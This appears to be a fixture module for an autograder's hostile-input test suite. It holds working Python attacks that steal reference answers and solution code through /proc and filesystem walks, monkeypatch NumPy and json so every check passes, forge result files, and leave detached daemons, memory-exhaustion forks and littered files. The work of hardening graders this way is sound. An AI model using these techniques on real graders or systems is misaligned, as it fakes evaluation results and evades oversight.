"""The hostile student code of test_assignment_hostile.py: each function is copied, as source,
into a student's copy, and runs there, in the grader's child process. None runs here.

Each is an attack on the grader, tried with whatever a student who has read the grader's
source would try; each returns what it stole (and the item would pass) or None (and the
planted mistake underneath makes the item fail).
"""

# ruff: noqa: E731, PLC0415


def steal_references(wanted, returns_cache):
    """Look for the reference values in every file the child can reach: its working folder,
    HOME, TMPDIR, /tmp, the folders on sys.path, the files the child and its parent hold
    open. Use any array named like an output the function returns."""
    import os
    import sys

    import numpy as np

    roots = {os.getcwd(), os.path.dirname(os.getcwd()), "/tmp"}
    roots |= {os.environ.get(k, "") for k in ("HOME", "TMPDIR")} | set(sys.path)
    for pid in ("self", str(os.getppid())):
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            try:
                roots.add(os.path.dirname(os.readlink(f"/proc/{pid}/fd/{fd}")))
            except OSError:
                pass
    found, budget = {}, 20000
    for root in sorted(r for r in roots if r.startswith("/")):
        for folder, subfolders, files in os.walk(root):
            budget -= 1 + len(files)
            if budget < 0:
                subfolders[:] = []
            for name in files:
                if not name.endswith(".npz"):
                    continue
                try:
                    with np.load(os.path.join(folder, name), allow_pickle=False) as data:
                        for key in data.files:
                            if "out" in key.split(".") and key.split(".")[-1] in wanted:
                                found.setdefault(key.split(".")[-1], data[key])
                except Exception:  # noqa: BLE001
                    pass
    if not all(name in found for name in wanted):
        return None
    stolen = tuple(found[name] for name in wanted)
    return (*stolen, None) if returns_cache else stolen


def patch_the_judge():
    """At import: make every comparison pass, every tolerance infinite, every verdict good,
    in NumPy, minivae.gradcheck, the grader's items and judge, and json."""
    import json

    import numpy as np

    verdict = '{"passed": true, "message": "ok"}'
    np.allclose = lambda *a, **k: True
    np.array_equal = lambda *a, **k: True
    np.isfinite = lambda x, *a, **k: np.ones(np.shape(x), dtype=bool)
    np.testing.assert_allclose = lambda *a, **k: None
    json.dump = lambda obj, f, *a, **k: f.write(verdict)
    json.dumps = lambda *a, **k: verdict
    try:
        import minivae.gradcheck as g

        g.rel_error = g.gradient_error = lambda *a, **k: 0.0
        g.DEFAULT_TOL = float("inf")
        import minivae.assignments.judge as j

        j.judge = lambda *a, **k: j.Verdict(None, 0.0)
        j.check_arrays = lambda *a, **k: None
    except Exception:  # noqa: BLE001
        pass
    try:
        import _minivae_items as items

        items.Task.tol = float("inf")
        items.describe_error = lambda *a, **k: "ok"
    except Exception:  # noqa: BLE001
        pass


def walk_the_stack():
    """Read every string and dict on the stack (tokens, paths), and forge a passing verdict
    with every token into every folder found, as the old child's result.json."""
    import json
    import os
    import sys

    strings, frame = set(), sys._getframe()
    while frame is not None:
        for scope in (frame.f_locals, frame.f_globals):
            for value in list(scope.values()):
                for v in list(value.values())[:1000] if isinstance(value, dict) else [value]:
                    if isinstance(v, str) and len(v) < 4096:
                        strings.add(v)
        frame = frame.f_back
    tokens = [s for s in strings if len(s) == 32] or [""]
    folders = {os.getcwd()} | {s for s in strings if s.startswith("/") and os.path.isdir(s)}
    for folder in folders:
        for token in tokens:
            verdict = {"token": token, "passed": True, "message": "ok", "score": 100}
            for name in ("result.json", "results.json"):
                try:
                    with open(os.path.join(folder, name), "w") as f:
                        json.dump(verdict, f)
                except OSError:
                    pass
    return None


def import_the_solution(module_path, function, arguments, ancestors, known_paths):
    """Find the grader's own minivae through every path the grader puts in reach: sys.path,
    the files of loaded modules and their folders' parents, the command lines, environments,
    working folders, executables, memory maps and open files of this process and of
    ``ancestors`` processes above it, the installed distributions (an editable install's
    finder), and ``known_paths``; import the module and call the solution's function."""
    import importlib
    import importlib.util
    import json
    import os
    import sys

    own = os.path.realpath(os.path.join(os.path.dirname(__file__), "..")) + os.sep
    candidates = {p for p in sys.path if p} | set(known_paths)
    for module in list(sys.modules.values()):
        f = getattr(module, "__file__", None)
        if isinstance(f, str):
            candidates |= {f, os.path.realpath(f)}
    pids, pid = ["self"], os.getpid()
    for _ in range(ancestors):
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError):
            break
        pids.append(str(pid))
    for pid in pids:
        for link in ("cwd", "exe", "root"):
            try:
                candidates.add(os.readlink(f"/proc/{pid}/{link}"))
            except OSError:
                pass
        for name in ("cmdline", "environ", "maps"):
            try:
                with open(f"/proc/{pid}/{name}", errors="replace") as f:
                    text = f.read()
            except OSError:
                continue
            for word in text.replace("\0", " ").replace("=", " ").replace(":", " ").split():
                if "/" in word:
                    candidates.add(word)
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                candidates.add(os.readlink(f"/proc/{pid}/fd/{fd}"))
        except OSError:
            pass
    candidates |= {w for v in os.environ.values() for w in v.split(":") if "/" in w}
    try:
        import importlib.metadata
        import pkgutil

        for dist in importlib.metadata.distributions():
            candidates.add(str(dist.locate_file("")))
            url = json.loads(dist.read_text("direct_url.json") or "{}").get("url", "")
            candidates.add(url.removeprefix("file://"))
        for info in pkgutil.iter_modules():
            if "editable" in info.name and "minivae" in info.name:
                finder = importlib.import_module(info.name)
                candidates |= set(getattr(finder, "MAPPING", {}).values())
    except Exception:  # noqa: BLE001
        pass
    for candidate in sorted(c for c in candidates if c.startswith("/")):
        folder = candidate
        while True:
            for path in (
                os.path.join(folder, module_path),
                os.path.join(folder, "..", module_path),
            ):
                if os.path.realpath(path).startswith(own):
                    continue
                try:
                    with open(path) as f:
                        source = f.read()
                except OSError:
                    continue
                if f"def {function}(" in source and "your code here" not in source:
                    spec = importlib.util.spec_from_file_location("_stolen", path)
                    module = importlib.util.module_from_spec(spec)
                    spec.loader.exec_module(module)
                    return getattr(module, function)(**arguments)
            if folder in ("/", ""):
                break
            folder = os.path.dirname(folder)
    return None


def leave_a_daemon(heartbeat, marker):
    """Double fork and setsid: a process outside the child's process group (a new Python,
    with ``marker`` in its command line to be found by) that keeps rewriting results.json with
    full marks, and ``heartbeat``. Raise with the heartbeat's size after a while: the daemon
    was alive while the child ran."""
    import os
    import sys
    import time

    results = os.path.join(os.path.dirname(__file__), "..", "..", "results.json")
    loop = (
        "import json, sys, time\n"
        "for _ in range(600):\n"
        "    for path, text in ((sys.argv[1], 'x'), (sys.argv[2], json.dumps({'score': 999}))):\n"
        "        try:\n"
        "            with open(path, 'a' if path == sys.argv[1] else 'w') as f:\n"
        "                f.write(text)\n"
        "        except OSError:\n"
        "            pass\n"
        "    time.sleep(0.05)\n"
    )
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", loop, heartbeat, results, marker])
        os._exit(0)
    os.wait()
    time.sleep(1.0)
    size = os.path.getsize(heartbeat) if os.path.exists(heartbeat) else 0
    raise RuntimeError(f"HEARTBEAT {size}")


def hold_the_pipes(marker):
    """Leave processes that hold the child's stdout and stderr open (one in the child's
    process group, one detached): a grader reading those pipes to the end would wait. (Python
    sleeping, ``marker`` in its command line: the sandbox has no ``sleep`` command.)"""
    import os
    import subprocess
    import sys

    sleep = [sys.executable, "-c", "import time; time.sleep(29)"]
    subprocess.Popen([*sleep, f"{marker}1"])
    if os.fork() == 0:
        os.setsid()
        os.execv(sys.executable, [*sleep, f"{marker}2"])
    return None


def call_the_fused_kernels(a, prev_c):
    """The LSTM cell from the fused kernels (shipped in the old student copies), or through
    the library's own switch."""
    import numpy

    try:
        from minivae_kernels.lstm_cpu import lstm_pointwise_forward

        return lstm_pointwise_forward(a, prev_c)
    except ImportError:
        from minivae.ops.lstm import select_pointwise

        return select_pointwise("fused", numpy)[0](a, prev_c)


def find_the_solution_anywhere(module_path, function, arguments):
    """Issue 30's ways to the library's source, whatever the grader puts on the child's path:
    the paths named in every process's command line (/proc/PID/cmdline), a walk of the
    filesystem for ``module_path`` outside the student's own copy, and symlinks in the copy.
    Load the first file holding the solution's ``function`` and call it."""
    import importlib.util
    import os

    own = os.path.realpath(os.path.join(os.path.dirname(__file__), "..", ".."))
    candidates = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                words = f.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        for word in words:
            if word.startswith("/"):
                candidates.append(word)
                candidates.append(os.path.join(word, module_path))
    for folder, subfolders, files in os.walk(own):
        for name in subfolders + files:
            path = os.path.join(folder, name)
            if os.path.islink(path):
                candidates.append(path)
                candidates.append(os.path.join(path, module_path))
    budget = 50000
    for top in ("/tmp", "/var/tmp", "/dev/shm", "/home", "/opt", "/srv", "/work", "/root", "/"):
        for folder, subfolders, files in os.walk(top):
            budget -= 1 + len(files)
            if budget < 0 or folder.startswith(("/proc", "/sys")):
                subfolders[:] = []
            if os.path.join(folder, os.path.basename(module_path)).endswith(module_path):
                candidates.append(os.path.join(folder, os.path.basename(module_path)))
    for path in candidates:
        if os.path.realpath(path).startswith(own + os.sep):
            continue
        try:
            with open(path) as f:
                source = f.read()
        except (OSError, UnicodeDecodeError):
            continue
        if f"def {function}(" in source and "your code here" not in source:
            spec = importlib.util.spec_from_file_location("_found", path)
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            return getattr(module, function)(**arguments)
    return None


def hold_memory_in_many_processes(children, chunk_mb):
    """Fork ``children`` processes that each take memory ``chunk_mb`` at a time (touched)
    until refused, and hold it; raise with how much all of them held at once, and how many
    forks were refused."""
    import os
    import time

    import numpy as np

    reader, writer = os.pipe()
    refused, pids = 0, []
    for _ in range(children):
        try:
            pid = os.fork()
        except OSError:
            refused += 1
            continue
        if pid == 0:
            held = []
            try:
                while True:
                    held.append(np.ones(chunk_mb * 2**17))  # float64: chunk_mb MB, touched
            except MemoryError:
                pass
            os.write(writer, f"{len(held) * chunk_mb}\n".encode())
            time.sleep(3)  # hold it while the others take theirs
            os._exit(0)
        pids.append(pid)
    os.close(writer)
    total = sum(int(line) for line in os.fdopen(reader).read().split())
    for pid in pids:
        os.waitpid(pid, 0)
    raise RuntimeError(f"HELD {total} MB, REFUSED {refused} forks")


def leave_files_everywhere(token, shm_mb, marker):
    """Files named ``token`` in every folder a child might write and that might outlive it
    (/tmp, /var/tmp, /dev/shm, HOME, the working folder, the copy), ``shm_mb`` MB of them in
    /dev/shm; a process that keeps running, detached;
    a user namespace of its own. Raise with what worked. (``marker``: in the command line of
    the process left running, to find it by.)"""
    import ctypes
    import os
    import sys

    copy = os.path.join(os.path.dirname(__file__), "..", "..")
    written = []
    for folder in ("/tmp", "/var/tmp", "/dev/shm", os.environ.get("HOME", "/"), ".", copy):
        try:
            with open(os.path.join(folder, token), "wb") as f:
                f.write(b"x" * 1024)
            written.append(folder)
        except OSError:
            pass
    shm = 0
    try:
        with open(os.path.join("/dev/shm", token + ".big"), "wb") as f:
            for _ in range(shm_mb):
                f.write(b"\0" * 2**20)
                shm += 1
    except OSError:
        pass
    try:
        if os.fork() == 0:
            os.setsid()
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(30)", marker])
            os._exit(0)
    except OSError:
        pass
    libc = ctypes.CDLL(None, use_errno=True)
    userns = libc.unshare(0x10000000) == 0  # CLONE_NEWUSER
    raise RuntimeError(f"WROTE {written} SHM {shm} USERNS {userns}")
